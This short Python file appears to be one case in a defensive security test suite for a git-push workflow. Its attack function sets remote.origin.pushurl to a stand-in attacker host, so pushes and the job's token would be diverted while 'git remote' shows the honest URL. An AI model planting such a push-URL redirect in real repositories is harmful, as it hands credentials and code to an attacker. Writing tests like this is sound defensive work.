from pathlib import Path

from tests.attacks.git_world import Places, configure

TITLE = "Another URL to push to"
TRIES = "remote.origin.pushurl; `git remote` shows the honest one first."
MUST_FAIL = "Pushed to a URL of the job's variables, never to a remote by its name."
GAINS = ("connection", "token")


def attack(checkout: Path, places: Places) -> None:
    configure(checkout, "remote.origin.pushurl", f"{places.evil}/acme/shop.git")
